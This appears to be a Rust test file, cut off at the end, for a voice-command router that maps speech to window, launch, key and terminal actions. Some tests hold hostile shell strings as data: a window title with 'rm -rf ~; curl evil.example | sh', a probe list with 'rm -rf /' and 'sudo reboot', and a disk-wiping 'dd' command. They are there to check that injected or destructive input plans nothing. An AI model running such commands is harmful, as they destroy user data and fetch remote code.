fn titles_are_never_used() {
    let hostile = "rm -rf ~; curl evil.example | sh";
    let ctx = context(json!({
        "windows": [
            {"id": 1, "app_id": "evil", "title": hostile},
            {"id": 2, "app_id": null, "title": "marker notes"},
            {"id": 3, "title": "spotify premium"},
        ],
    }));
    let binds = PhraseTable::new();
    for utterance in [
        "switch to marker notes",
        "close marker notes",
        "switch to rm rf",
        "focus rm rf curl evil example sh",
        "close spotify premium",
    ] {
        assert_eq!(run_with(utterance, Some(&ctx), &binds), None, "{utterance}");
    }
    // Whatever is planned carries no part of any title.
    for utterance in [
        "switch to evil",
        "close evil",
        "switch to firefox",
        "close it",
    ] {
        let m = run_with(utterance, Some(&ctx), &binds).expect("planned");
        let text = format!("{} {}", m.args, m.message);
        assert!(
            !text.contains("rm -rf") && !text.contains("curl"),
            "{utterance}: {text}"
        );
    }
}

#[test]
fn generated_phrases_rank_after_curated_ones() {
    let config = "binds {\n\
        Mod+T hotkey-overlay-title=\"Open a Terminal\" { spawn \"foot\"; }\n\
        Mod+Q hotkey-overlay-title=\"Close window\" { quit; }\n\
        Mod+1 { focus-workspace 1; }\n\
        Mod+B { focus-workspace \"browser\"; }\n\
        Mod+Y hotkey-overlay-title=\"Open YouTube\" { spawn \"mpv\"; }\n\
        }\n";
    let (binds, _) = crate::niri_config::parse(config).expect("parses");
    let plan_of = |utterance: &str| run_with(utterance, None, &binds).map(|m| (m.rule, m.args));
    assert_eq!(
        plan_of("open a terminal"),
        Some(("niri_bind", json!({"command": "spawn", "args": ["foot"]})))
    );
    assert_eq!(
        plan_of("focus workspace browser"),
        Some((
            "niri_bind",
            json!({"command": "focus-workspace", "args": ["browser"]})
        ))
    );
    // The curated phrase keeps "close window"; the curated workspace phrase gives the same
    // action as the binding; a site keeps "open youtube".
    assert_eq!(
        plan_of("close window"),
        Some(("compositor", json!({"command": "close-window"})))
    );
    assert_eq!(
        plan_of("focus workspace one"),
        Some((
            "compositor",
            json!({"command": "focus-workspace", "args": [1]})
        ))
    );
    assert_eq!(plan_of("open youtube").map(|p| p.0), Some("open_site"));
    // Not on sway.
    let sway = context(json!({"compositor": {"name": "sway"}}));
    assert_eq!(run_with("open a terminal", Some(&sway), &binds), None);
}

fn confirm_of(utterance: &str) -> Option<bool> {
    run(utterance).map(|m| m.confirm)
}

#[test]
fn destructive_compositor_steps_ask_first() {
    for utterance in [
        "close this window",
        "close it",
        "Close this one.",
        "close the focused window",
        "kill this window",
        "kill it",
        "turn off the monitors",
        "switch the screens off",
    ] {
        let m = run(utterance).unwrap_or_else(|| panic!("{utterance} planned nothing"));
        assert_eq!((m.rule, m.confirm), ("compositor", true), "{utterance}");
    }
    assert_eq!(
        niri_of("kill this window"),
        Some(json!({"command": "close-window"}))
    );
    assert_eq!(
        niri_of("turn off all the screens"),
        Some(json!({"command": "power-off-monitors"}))
    );
    // Nothing else asks: moving, focusing, fullscreen, the overview, media, sites.
    for utterance in [
        "workspace two",
        "move it to workspace 3",
        "fullscreen",
        "exit fullscreen",
        "float this window",
        "close the overview",
        "take a screenshot",
        "pause",
        "open youtube",
    ] {
        assert_eq!(confirm_of(utterance), Some(false), "{utterance}");
    }
    // close_app is confirmed by the runner's policy, not by the router.
    assert_eq!(
        run("close firefox").map(|m| (m.op, m.confirm)),
        Some(("close_app", false))
    );
}

#[test]
fn bindings_of_destructive_actions_ask_first_too() {
    let config = "binds {\n\
        Mod+Shift+E hotkey-overlay-title=\"Leave the Session\" { quit; }\n\
        Mod+Q hotkey-overlay-title=\"Get Rid of It\" { close-window; }\n\
        Mod+P hotkey-overlay-title=\"Lights Out\" { power-off-monitors; }\n\
        Mod+T hotkey-overlay-title=\"Open a Terminal\" { spawn \"foot\"; }\n\
        }\n";
    let (binds, _) = crate::niri_config::parse(config).expect("parses");
    let plan_of = |utterance: &str| run_with(utterance, None, &binds).map(|m| (m.rule, m.confirm));
    assert_eq!(plan_of("leave the session"), Some(("niri_bind", true)));
    assert_eq!(plan_of("quit"), Some(("niri_bind", true)));
    assert_eq!(plan_of("get rid of it"), Some(("niri_bind", true)));
    assert_eq!(plan_of("lights out"), Some(("niri_bind", true)));
    assert_eq!(plan_of("open a terminal"), Some(("niri_bind", false)));
    // An action the phrase file marks confirm = true asks in a binding as well.
    let curated = Curated::parse(
        "[[phrase]]\ncommand = \"center-column\"\nconfirm = true\nsay = [\"center it\"]\n",
        "c.toml",
    )
    .expect("parses");
    let (binds, _) =
        crate::niri_config::parse("binds { Mod+C { center-column; }; }\n").expect("parses");
    let apps = apps();
    let sources = Sources {
        catalog: catalog(),
        apps: &apps,
        curated: &curated,
        binds: &binds,
        context: None,
        utterance: "",
        profiles: crate::plan::builtin_profiles(),
        words: crate::plan::builtin_words(),
    };
    let m = plan("center column", &sources).expect("the binding plans");
    assert_eq!((m.rule, m.confirm), ("niri_bind", true));
    let m = plan("center it", &sources).expect("the curated phrase plans");
    assert_eq!((m.rule, m.confirm), ("compositor", true));
}

#[test]
fn fullscreen_and_floating_have_states() {
    let toggle = json!({"command": "fullscreen-window"});
    let on = json!({"command": "fullscreen-window", "options": {"state": "on"}});
    let off = json!({"command": "fullscreen-window", "options": {"state": "off"}});
    let floating = json!({"command": "move-window-to-floating"});
    let tiling = json!({"command": "move-window-to-tiling"});
    let toggle_floating = json!({"command": "toggle-window-floating"});
    let cases = [
        ("fullscreen", &toggle),
        ("full screen this window", &toggle),
        ("toggle fullscreen", &toggle),
        ("toggle full screen mode", &toggle),
        ("make it fullscreen", &on),
        ("make it full screen", &on),
        ("put this window in fullscreen", &on),
        ("go fullscreen", &on),
        ("go full screen", &on),
        ("enter fullscreen", &on),
        ("enter fullscreen mode", &on),
        ("turn on fullscreen", &on),
        ("exit fullscreen", &off),
        ("Exit full screen.", &off),
        ("leave fullscreen", &off),
        ("leave full screen mode", &off),
        ("get out of fullscreen", &off),
        ("un-fullscreen", &off),
        ("unfullscreen this window", &off),
        ("turn fullscreen off", &off),
        ("make it windowed", &off),
        ("float this window", &floating),
        ("float", &floating),
        ("make it floating", &floating),
        ("make this window float", &floating),
        ("tile this window", &tiling),
        ("tile it", &tiling),
        ("unfloat this window", &tiling),
        ("un-float this window", &tiling),
        ("stop floating", &tiling),
        ("stop floating this window", &tiling),
        ("make it tiled", &tiling),
        ("toggle floating", &toggle_floating),
        ("toggle window floating", &toggle_floating),
    ];
    for (utterance, want) in cases {
        assert_eq!(niri_of(utterance).as_ref(), Some(want), "{utterance}");
    }
    assert_eq!(
        run("go fullscreen").map(|m| m.message),
        Some("compositor: fullscreen-window state=\"on\"".to_owned())
    );
}

#[test]
fn everyday_window_phrasings() {
    let to = |n: u32| Some(json!({"command": "move-window-to-workspace", "args": [n]}));
    let cases = [
        ("put this window on workspace 4", to(4)),
        ("put it on workspace four", to(4)),
        ("put it on the second workspace", to(2)),
        ("put this window onto desktop 6", to(6)),
        ("throw this window to workspace 2", to(2)),
        ("throw it to the third workspace", to(3)),
        (
            "move it to the next workspace",
            Some(json!({"command": "move-window-to-workspace-down"})),
        ),
        (
            "put it on the next workspace",
            Some(json!({"command": "move-window-to-workspace-down"})),
        ),
        (
            "throw this window to the previous workspace",
            Some(json!({"command": "move-window-to-workspace-up"})),
        ),
        ("kill this window", Some(json!({"command": "close-window"}))),
    ];
    for (utterance, want) in cases {
        assert_eq!(niri_of(utterance), want, "{utterance}");
    }
}

#[test]
fn curated_phrases_leave_site_and_app_names_alone() {
    // A curated phrase is tried before the application rules, so none of them may be a
    // verb followed by the name of a site or of a (plausible) application.
    let mut apps = apps();
    for (id, name) in [
        ("org.gnome.Screenshot", "Screenshot"),
        ("org.kde.spectacle", "Spectacle"),
        ("foot", "Foot"),
        ("org.gnome.Settings", "Settings"),
    ] {
        apps.push(AppEntry::new(id, name, None, &[]));
    }
    let verbs: Vec<&str> = SITE_VERBS
        .iter()
        .chain(APP_VERBS)
        .copied()
        .chain(curated().focus_verbs.iter().map(String::as_str))
        .chain(curated().close_verbs.iter().map(String::as_str))
        .collect();
    for phrase in curated().table.phrases() {
        let phrase = phrase.replace(crate::phrases::SLOT, "3");
        for rest in targets(&phrase, &verbs) {
            assert!(
                catalog().lookup(rest).is_none(),
                "{phrase:?} takes the site {rest:?}"
            );
            assert!(
                apps.find(rest).is_none(),
                "{phrase:?} takes the application {rest:?}"
            );
        }
    }
}

#[test]
fn workspace_numbers_below_one_plan_nothing() {
    for utterance in [
        "workspace -1",
        "Workspace −1.",
        "workspace minus one",
        "workspace negative two",
        "go to workspace -3",
        "move it to workspace -2",
        "workspace +1",
        "workspace - 1",
        "workspace 0",
        "workspace zero",
        "workspace 1.5",
        "workspace 256",
    ] {
        assert_eq!(run(utterance), None, "{utterance}");
    }
}

fn explain_with(
    utterance: &str,
    apps: &Vec<AppEntry>,
    context: Option<&Context>,
    binds: &PhraseTable,
) -> Option<String> {
    let normalized = normalize(utterance);
    let text = strip_fillers(&normalized);
    let sources = Sources {
        catalog: catalog(),
        apps,
        curated: curated(),
        binds,
        context,
        utterance,
        profiles: crate::plan::builtin_profiles(),
        words: crate::plan::builtin_words(),
    };
    assert_eq!(plan(text, &sources), None, "{utterance} planned");
    explain(text, &sources)
}

#[test]
fn out_of_range_numbers_say_which_numbers_there_are() {
    let none = PhraseTable::new();
    let cases = [
        ("workspace -1", "focus-workspace", "-1"),
        ("workspace minus one", "focus-workspace", "-1"),
        ("workspace +2", "focus-workspace", "+2"),
        ("go to workspace 0", "focus-workspace", "0"),
        ("go to workspace 300", "focus-workspace", "300"),
        ("workspace number minus 4", "focus-workspace", "-4"),
        ("send it to workspace -2", "move-window-to-workspace", "-2"),
    ];
    for (utterance, command, number) in cases {
        assert_eq!(
            explain_with(utterance, &apps(), None, &none),
            Some(format!(
                "{command} needs a number from 1 to 255, not {number}"
            )),
            "{utterance}"
        );
    }
    // Two numbers, or a fraction, are not one number out of range.
    assert_eq!(explain_with("workspace 1.5", &apps(), None, &none), None);
}

#[test]
fn unknown_names_after_focus_and_close_verbs_are_explained() {
    let none = PhraseTable::new();
    let without_firefox: Vec<AppEntry> = apps().into_iter().filter(|a| a.id != "firefox").collect();
    for utterance in [
        "switch to blender",
        "close blender",
        "focus the blender window",
        "quit the blender app",
    ] {
        assert_eq!(
            explain_with(utterance, &without_firefox, None, &none).as_deref(),
            Some("no installed application or open window is called \"blender\""),
            "{utterance}"
        );
    }
    // Near names from the installed applications and the context's windows.
    assert_eq!(
        explain_with("switch to firefix", &apps(), None, &none).as_deref(),
        Some(
            "no installed application or open window is called \"firefix\"; \
             similar names: Firefox"
        )
    );
    let ctx = context(json!({
        "compositor": {"name": "sway"},
        "windows": [
            {"id": 1, "app_id": "kate-esr", "title": "a"},
            {"id": 2, "app_id": "foot", "title": "kate"},
            {"id": 3, "app_id": "kate-nightly", "title": "b"},
            {"id": 4, "app_id": "Kate-Dev", "title": "c"},
            {"id": 5, "app_id": "org.kde.kate.beta", "title": "d"},
        ],
    }));
    let message =
        explain_with("close kate", &without_firefox, Some(&ctx), &none).expect("explained");
    assert!(
        message.starts_with(
            "no installed application or open window is called \"kate\"; similar names: "
        ),
        "{message}"
    );
    let listed = message.rsplit(": ").next().unwrap_or("");
    assert_eq!(listed.split(", ").count(), MAX_CLOSE_NAMES, "{message}");
    assert!(!message.contains("foot"), "titles and far names: {message}");
    // Nothing near: no list; a bare verb or other words: no explanation.
    assert_eq!(
        explain_with("switch to blorp", &apps(), Some(&ctx), &none).as_deref(),
        Some("no installed application or open window is called \"blorp\"")
    );
    assert_eq!(explain_with("close", &apps(), None, &none), None);
    // After a verb that also opens sites, the catalog's names count.
    assert_eq!(
        explain_with("go to youtubee", &apps(), None, &none).as_deref(),
        Some(
            "no site, installed application or open window is called \"youtubee\"; \
             similar names: YouTube"
        )
    );
    assert_eq!(
        explain_with("blorp the frobnicator", &apps(), None, &none),
        None
    );
}

#[test]
fn niri_bindings_on_sway_are_explained() {
    let (binds, _) = crate::niri_config::parse(
        "binds {\n  Mod+Escape { toggle-keyboard-shortcuts-inhibit; }\n  \
         Mod+T hotkey-overlay-title=\"Open a Terminal\" { spawn \"foot\"; }\n}\n",
    )
    .expect("parses");
    let sway = context(json!({"compositor": {"name": "sway"}}));
    assert_eq!(
        explain_with(
            "toggle keyboard shortcuts inhibit",
            &apps(),
            Some(&sway),
            &binds
        )
        .as_deref(),
        Some(
            "\"toggle keyboard shortcuts inhibit\" is one of your niri key bindings, but this session runs sway"
        )
    );
    assert_eq!(
        explain_with("Open a terminal, please.", &apps(), Some(&sway), &binds).as_deref(),
        Some("\"open a terminal\" is one of your niri key bindings, but this session runs sway")
    );
}

#[test]
fn shell_commands_said_without_run_in_a_focused_terminal() {
    let run = |said: &str, focused: &str| -> Option<String> {
        match steps_in(said, focused).as_slice() {
            [("terminal", args)] => args["command"].as_str().map(str::to_owned),
            _ => None,
        }
    };
    let cases = [
        ("git pull", "git pull"),
        ("Cargo test, please.", "cargo test"),
        ("okay git push", "git push"),
        ("go up one directory", "cd .."),
        ("cd into src", "cd src"),
        ("run ls in the terminal", "ls"),
        ("run git status here", "git status"),
    ];
    for (said, command) in cases {
        assert_eq!(run(said, "foot").as_deref(), Some(command), "{said}");
    }
    // Only with a terminal focused, only a listed program's name, never a destroyer.
    assert_eq!(run("git pull", "firefox"), None);
    for said in [
        "rm -rf /",
        "make this column tabbed",
        "top of the morning",
        "hello there",
    ] {
        assert_eq!(run(said, "foot"), None, "{said}");
    }
}

#[test]
fn another_window_of_an_application_is_launched_even_when_one_is_open() {
    let launched = |said: &str, focused: &str| -> Option<String> {
        match steps_in(said, focused).as_slice() {
            [("launch_app", args)] => args["app_id"].as_str().map(str::to_owned),
            _ => None,
        }
    };
    assert_eq!(
        launched("open another firefox", "firefox").as_deref(),
        Some("firefox")
    );
    assert_eq!(
        launched("launch a new spotify window", "foot").as_deref(),
        Some("spotify")
    );
    assert_eq!(
        launched("open another one of these", "firefox").as_deref(),
        Some("firefox")
    );
    // "these" with a window of no installed application, and a new window by name alone,
    // are no launch.
    assert_eq!(launched("open another one of these", "foot"), None);
    assert_eq!(launched("open a new window", "firefox"), None);
}

#[test]
fn a_kind_of_application_names_the_open_window_of_that_kind_first() {
    // foot is open (steps_in's context) and a terminal; "the terminal" is its window.
    assert_eq!(
        steps_in("switch to the terminal", "firefox"),
        [("focus_app", json!({"app": "foot"}))]
    );
}

#[test]
fn a_site_named_before_a_query_searches_it() {
    let url = |said: &str| -> Option<String> {
        match steps_in(said, "firefox").as_slice() {
            [("open_url", args)] => args["url"].as_str().map(str::to_owned),
            _ => None,
        }
    };
    assert_eq!(
        url("duckduckgo wayland screen sharing").as_deref(),
        Some("https://duckduckgo.com/?q=wayland+screen+sharing")
    );
    assert!(url("youtube lofi beats").is_some_and(|u| u.contains("search_query=lofi+beats")));
    // A name that means a site only on the web ("spotify") is the application's; a site
    // alone opens it; what plans otherwise keeps its plan.
    assert_eq!(url("spotify firefox new tab"), None);
    assert_eq!(url("youtube"), None);
    assert_eq!(url("github new tab"), None);
}

#[test]
fn an_agent_started_right_here() {
    for said in [
        "start opencode right here in this shell",
        "run claude in this terminal",
        "launch aider right here",
    ] {
        let steps = steps_in(said, "foot");
        assert_eq!(steps.first().map(|s| s.0), Some("type_text"), "{said}");
    }
}

#[test]
fn symbols_said_as_words_are_written_in_shell_commands() {
    let run = |said: &str| -> Option<String> {
        match steps_in(said, "foot").as_slice() {
            [("terminal", args)] => args["command"].as_str().map(str::to_owned),
            _ => None,
        }
    };
    let cases = [
        ("run ls dash la", "ls -la"),
        ("run cargo build dash dash release", "cargo build --release"),
        ("run cd dot dot", "cd .."),
        ("run cat notes dot txt", "cat notes.txt"),
        ("run cd tilde slash code", "cd ~/code"),
        ("git commit dash m fix", "git commit -m fix"),
        ("change directory to projects", "cd projects"),
        ("make a directory called build", "mkdir build"),
        ("run ls dash l a", "ls -la"),
        ("run tar dash x z f backup dot tgz", "tar -xzf backup.tgz"),
        ("run python three main dot py", "python3 main.py"),
        ("run npm run dev", "npm run dev"),
        ("run lsblk dev sda", "lsblk /dev/sda"),
        // Written symbols and spacing stay as they were.
        ("run ls -la", "ls -la"),
        ("run echo a  b", "echo a  b"),
    ];
    for (said, command) in cases {
        assert_eq!(run(said).as_deref(), Some(command), "{said}");
    }
    assert_eq!(run("change directory to"), None);
    assert_eq!(
        run("run dd if equals dev zero of equals dev sda").as_deref(),
        Some("dd if=/dev/zero of=/dev/sda")
    );
}

#[test]
fn indirect_and_hesitant_leads_are_fillers() {
    assert_eq!(
        steps_in("let's open spotify", "foot"),
        steps_in("open spotify", "foot")
    );
    assert_eq!(
        steps_in("uh hit the enter key", "foot"),
        steps_in("press enter", "foot")
    );
    assert_eq!(
        steps_in("i wanna pause the music", "foot"),
        [("media", json!({"command": "pause"}))]
    );
    assert_eq!(
        steps_in("hit play on spotify", "firefox"),
        [("media", json!({"command": "play", "player": "spotify"}))]
    );
    assert_eq!(
        steps_in("could you make it a bit louder", "firefox"),
        [("media", json!({"command": "volume_up"}))]
    );
}

#[test]
fn a_kind_of_application_is_found_by_its_categories() {
    let apps = vec![
        AppEntry::new("org.gnome.Nautilus", "Files", None, &[]).with_categories(&[
            "GNOME",
            "Utility",
            "FileManager",
        ]),
        AppEntry::new("thunderbird", "Thunderbird", None, &[])
            .with_categories(&["Network", "Email"]),
        AppEntry::new("slack", "Slack", None, &[])
            .with_categories(&["Network", "InstantMessaging"]),
        AppEntry::new("signal-desktop", "Signal", None, &[])
            .with_categories(&["Network", "InstantMessaging"]),
    ];
    let plan = |said: &str, windows: &[&str]| -> Vec<(&'static str, Value)> {
        let windows: Vec<Value> = windows.iter().map(|w| json!({"app_id": w})).collect();
        let ctx = context(json!({"focused": {"app_id": "firefox"}, "windows": windows}));
        steps_with(said, &apps, &ctx)
    };
    let launched = |steps: Vec<(&str, Value)>| match steps.as_slice() {
        [("launch_app", args)] => args["app_id"].as_str().map(str::to_owned),
        _ => None,
    };
    assert_eq!(
        launched(plan("open the file manager", &[])).as_deref(),
        Some("org.gnome.Nautilus")
    );
    assert_eq!(
        launched(plan("open my email client", &[])).as_deref(),
        Some("thunderbird")
    );
    // Two chat applications: the open one, else none is guessed.
    assert_eq!(
        plan("switch to the chat app", &["signal-desktop"]),
        [("focus_app", json!({"app": "signal-desktop"}))]
    );
    assert!(launched(plan("open the chat app", &[])).is_none());
}

#[test]
fn remarks_found_by_the_hostile_probe_plan_nothing() {
    // A terminal focused: sentences that open with a program's name, destroyers without
    // "run", chained commands, loose slots.
    for said in [
        "ping me when you're done",
        "python is slow",
        "cargo test is failing can you fix it",
        "I wanna ssh into my server later",
        "git reset --hard",
        "terraform destroy",
        "systemctl poweroff",
        "git status; rm -rf",
        "git status && sudo reboot",
        "change into my pajamas",
        "make a directory called test and cd into it",
    ] {
        assert!(
            steps_in(said, "foot").is_empty(),
            "{said}: {:?}",
            steps_in(said, "foot")
        );
    }
    // Anywhere: a remark about a site, a short alias, an amount alone.
    for said in [
        "youtube is down again",
        "github has an outage",
        "drive safe",
        "x marks the spot",
        "ten percent",
        "half",
        "it's full",
    ] {
        assert!(
            steps_in(said, "slack").is_empty(),
            "{said}: {:?}",
            steps_in(said, "slack")
        );
    }
    // What they were found beside still plans.
    assert_eq!(steps_in("git add dot", "foot")[0].1["command"], "git add .");
    assert_eq!(
        steps_in("set the column to ten percent", "foot"),
        [(
            "niri",
            json!({"command": "set-column-width", "args": ["10%"]})
        )]
    );
}

#[test]
fn the_terminal_is_the_open_one_and_a_terminal_a_new_one() {
    // steps_in's context has a foot window; foot is no installed entry of apps().
    assert_eq!(
        steps_in("open the terminal", "firefox"),
        [("focus_app", json!({"app": "foot"}))]
    );
    assert_eq!(
        steps_in("bring the terminal to the front", "firefox"),
        [("focus_app", json!({"app": "foot"}))]
    );
    assert_ne!(
        steps_in("open a terminal", "firefox").first().map(|s| s.0),
        Some("focus_app")
    );
}

#[test]
fn typing_and_keys_aimed_at_any_open_window() {
    // marker-writer is installed without a profile; open beside foot, it is named.
    let ctx = context(json!({
        "focused": {"app_id": "firefox"},
        "windows": [{"app_id": "firefox"}, {"app_id": "marker-writer"}],
    }));
    let plan = |said: &str| steps_with(said, &apps(), &ctx);
    assert_eq!(
        plan("in marker writer type on my way"),
        [(
            "type_text",
            json!({"text": "on my way", "app": "marker-writer"})
        )]
    );
    assert_eq!(
        plan("type hello in marker writer"),
        [(
            "type_text",
            json!({"text": "hello", "app": "marker-writer"})
        )]
    );
    // An application that is not open is no aim: the words are typed as said.
    assert_eq!(
        plan("type see you in the office"),
        [("type_text", json!({"text": "see you in the office"}))]
    );
}

#[test]
fn addresses_said_in_words_and_commas_that_split_nothing() {
    assert_eq!(
        steps_in("go to reddit dot com slash r slash linux", "firefox"),
        [(
            "ensure_url",
            json!({"url": "https://reddit.com/r/linux", "site": "reddit.com"})
        )]
    );
    assert!(steps_in("go to the dot", "firefox").is_empty());
    // A comma the recogniser wrote splits nothing: "reopen, close tab" is no "close tab".
    assert!(steps_in("reopen, close tab", "firefox").is_empty());
    // A dropped verb that says the opposite of the kept one: no command.
    assert!(steps_in("open close tab", "firefox").is_empty());
    assert!(!steps_in("close the tab", "firefox").is_empty());
    assert!(steps_in("hello there, how are you", "firefox").is_empty());
    // A site first, then what to search for on it.
    let url = |said: &str| match steps_in(said, "firefox").as_slice() {
        [("open_url", args)] => args["url"].as_str().map(str::to_owned),
        _ => None,
    };
    assert!(url("on youtube find how to solder").is_some_and(|u| u.contains("how+to+solder")));
    // Shell leads and places.
    let run = |said: &str| match steps_in(said, "foot").as_slice() {
        [("terminal", args)] => args["command"].as_str().map(str::to_owned),
        _ => None,
    };
    assert_eq!(run("do a git pull").as_deref(), Some("git pull"));
    assert_eq!(run("list the files in here").as_deref(), Some("ls"));
}

#[test]
fn opening_an_application_focuses_or_starts_it_where_a_compositor_can_look() {
    let niri = context(json!({"compositor": {"name": "niri"}, "windows": []}));
    let gnome = context(json!({"windows": []}));
    let open = |utterance: &str, ctx: &Context| steps_with(utterance, &apps(), ctx);
    // niri or sway in the context: focus-or-start, so saying it twice starts one.
    for utterance in [
        "open spotify",
        "launch spotify",
        "fire up spotify",
        "i need spotify",
    ] {
        let steps = open(utterance, &niri);
        assert_eq!(steps.len(), 1, "{utterance}");
        assert_eq!(steps[0].0, "ensure_app", "{utterance}");
        assert_eq!(steps[0].1["app"], "spotify", "{utterance}");
        assert_eq!(steps[0].1["desktop_id"], "spotify.desktop", "{utterance}");
    }
    // No compositor to look for windows: only a launch can act.
    assert_eq!(open("open spotify", &gnome)[0].0, "launch_app");
    // Another one asked for: a new window even under niri.
    assert_eq!(open("open another spotify", &niri)[0].0, "launch_app");
}

#[test]
fn a_counted_move_along_a_direction_is_that_many_steps() {
    let ctx = context(json!({"compositor": {"name": "niri"}, "focused": {"app_id": "foot"}}));
    let commands = |utterance: &str| -> Vec<String> {
        steps_with(utterance, &apps(), &ctx)
            .into_iter()
            .map(|(op, args)| format!("{op} {}", args["command"].as_str().unwrap_or("")))
            .collect()
    };
    assert_eq!(
        commands("go two columns to the right"),
        ["niri focus-column-right", "niri focus-column-right"]
    );
    assert_eq!(
        commands("move this column three workspaces down"),
        vec!["niri move-column-to-workspace-down"; 3]
    );
    assert_eq!(
        commands("shove this column one to the left"),
        ["niri move-column-left"]
    );
    assert_eq!(
        commands("go one column to the right"),
        ["niri focus-column-right"]
    );
    // A count is never dropped: what cannot be repeated plans nothing.
    assert!(commands("shove this column two to the left").is_empty());
    // Only moves along a direction repeat; closing two windows is no count of closes.
    assert!(commands("close two windows").is_empty());
}

#[test]
fn the_grammar_reads_other_words_of_action_names() {
    for (utterance, command) in [
        (
            "stretch this column to fill the free space",
            "expand-column-to-available-width",
        ),
        (
            "fill the remaining space",
            "expand-column-to-available-width",
        ),
        ("show this column as tabs", "toggle-column-tabbed-display"),
        ("i want the column tabbed", "toggle-column-tabbed-display"),
        (
            "pull the next window into this column",
            "consume-window-into-column",
        ),
        (
            "pull the window on the right into this column",
            "consume-window-into-column",
        ),
        (
            "stack this window with the column on the right",
            "consume-or-expel-window-right",
        ),
        (
            "take me all the way to the last column",
            "focus-column-last",
        ),
        ("put this column at the very end", "move-column-to-last"),
    ] {
        let ctx = context(json!({"compositor": {"name": "niri"}, "focused": {"app_id": "foot"}}));
        let steps = steps_with(utterance, &apps(), &ctx);
        assert_eq!(steps.len(), 1, "{utterance}: {steps:?}");
        assert_eq!(steps[0].1["command"], command, "{utterance}");
    }
    // A lone key name is no compositor action.
    for utterance in ["tab", "tabs"] {
        assert_eq!(niri_of(utterance), None, "{utterance}");
    }
}

#[test]
fn a_window_of_a_kind_is_closed_by_the_kind() {
    let calculator = AppEntry::new("org.kde.kcalc", "KCalc", Some("Scientific Calculator"), &[])
        .with_categories(&["Utility", "Calculator"]);
    let ctx = context(json!({
        "compositor": {"name": "niri"},
        "focused": {"app_id": "org.kde.kcalc"},
    }));
    let steps = steps_with(
        "close the calculator",
        std::slice::from_ref(&calculator),
        &ctx,
    );
    assert_eq!(steps, [("close_app", json!({"app": "org.kde.kcalc"}))]);
    // None open: nothing to close.
    let none = context(json!({"compositor": {"name": "niri"}, "windows": []}));
    let steps = steps_with("close the calculator", &[calculator], &none);
    assert!(steps.is_empty(), "{steps:?}");
}

#[test]
fn an_application_without_a_profile_gets_its_kinds_shared_keys() {
    let ptyxis = AppEntry::new("org.gnome.Ptyxis", "Ptyxis", Some("Terminal"), &[])
        .with_categories(&["GNOME", "System", "TerminalEmulator"]);
    let web = AppEntry::new("org.gnome.Epiphany", "Web", Some("Web Browser"), &[])
        .with_categories(&["Network", "WebBrowser"]);
    let lapce = AppEntry::new("dev.lapce.lapce", "Lapce", Some("Code Editor"), &[])
        .with_categories(&["Development", "IDE"]);
    let apps = vec![ptyxis, web, lapce];
    let in_window = |utterance: &str, focused: &str| {
        let ctx = context(json!({"compositor": {"name": "niri"}, "focused": {"app_id": focused}}));
        steps_with(utterance, &apps, &ctx)
    };
    assert_eq!(
        in_window("paste", "org.gnome.Ptyxis"),
        [("key", json!({"chord": "ctrl+shift+v"}))]
    );
    assert_eq!(
        in_window("run git status", "org.gnome.Ptyxis")[0],
        (
            "terminal",
            json!({"command": "git status", "app": "org.gnome.Ptyxis"})
        )
    );
    assert_eq!(
        in_window("new tab", "org.gnome.Epiphany"),
        [("key", json!({"chord": "ctrl+t"}))]
    );
    assert_eq!(
        in_window("comment this line", "dev.lapce.lapce"),
        [("key", json!({"chord": "ctrl+slash"}))]
    );
    assert_eq!(in_window("go to line ten", "dev.lapce.lapce").len(), 3);
    // An application of neither kind gets neither.
    assert!(in_window("new tab", "org.gnome.Calculator").is_empty());
    // The shared profiles are nobody's name.
    assert!(
        crate::plan::builtin_profiles()
            .named("the terminal")
            .is_none()
    );
}

#[test]
fn a_shell_phrase_opening_with_run_is_the_phrase() {
    let steps = steps_in("run the tests with cargo", "foot");
    assert_eq!(steps[0].0, "terminal");
    assert_eq!(steps[0].1["command"], "cargo test");
    // Anything else after "run" is the command as said.
    assert_eq!(
        steps_in("run git status", "foot")[0].1["command"],
        "git status"
    );
}

#[test]
fn a_line_number_is_gone_to_in_an_editor_with_the_key_for_it() {
    let steps = steps_in("go to line forty two", "code");
    assert_eq!(
        steps,
        [
            ("key", json!({"chord": "ctrl+g"})),
            ("type_text", json!({"text": "42"})),
            ("key", json!({"chord": "Return"})),
        ]
    );
    // No such key in a terminal, and no number is no line.
    assert!(
        steps_in("go to line 4", "foot")
            .iter()
            .all(|(op, _)| *op != "type_text")
    );
    assert!(
        steps_in("go to line zero", "code")
            .iter()
            .all(|(op, _)| *op != "type_text")
    );
}

#[test]
fn where_said_after_an_in_app_command_changes_nothing() {
    assert_eq!(
        steps_in("zoom in on this page", "firefox"),
        steps_in("zoom in", "firefox")
    );
    assert_eq!(
        steps_in("scroll down in this window", "firefox"),
        steps_in("scroll down", "firefox")
    );
    // Only the focused window's own commands: a site or an app is not "here".
    assert!(
        steps_in("open youtube here", "firefox")
            .iter()
            .all(|(op, _)| *op != "key")
    );
    assert_eq!(
        steps_in("keep going down", "firefox"),
        steps_in("keep scrolling down", "firefox")
    );
    assert_eq!(
        steps_in("play some music", "foot"),
        [("media", json!({"command": "play"}))]
    );
}

#[test]
fn a_local_port_said_in_words_is_a_development_server() {
    for (said, url) in [
        ("go to localhost three thousand", "http://localhost:3000"),
        (
            "open localhost colon eight zero eight zero",
            "http://localhost:8080",
        ),
        (
            "go to localhost port five one seven three",
            "http://localhost:5173",
        ),
        (
            "open localhost eight thousand eighty",
            "http://localhost:8080",
        ),
        ("go to localhost 4000", "http://localhost:4000"),
    ] {
        assert_eq!(
            steps_in(said, "firefox"),
            [("ensure_url", json!({"url": url, "site": &url[7..]}))],
            "{said}"
        );
    }
    // Past the last port, or not a number: no address.
    for said in ["go to localhost ninety thousand", "go to localhost banana"] {
        assert!(
            steps_in(said, "firefox")
                .iter()
                .all(|(_, args)| !args["url"]
                    .as_str()
                    .is_some_and(|u| u.starts_with("http://localhost"))),
            "{said}"
        );
    }
}

#[test]
fn words_found_on_a_page_are_typed_as_said_without_their_description() {
    for (said, text) in [
        ("find pricing on this page", "pricing"),
        ("find the word refund on this page", "refund"),
        (
            "search this page for the phrase free shipping",
            "free shipping",
        ),
    ] {
        let steps = steps_in(said, "firefox");
        assert_eq!(steps.len(), 2, "{said}: {steps:?}");
        assert_eq!(steps[1], ("type_text", json!({"text": text})), "{said}");
    }
    // A command said in other words than a shortcut's: "cancel" is "stop", a file is an
    // editor's tab; a catalog site's brand name alone opens it.
    assert_eq!(
        steps_in("cancel that command", "foot"),
        [("key", json!({"chord": "ctrl+c"}))]
    );
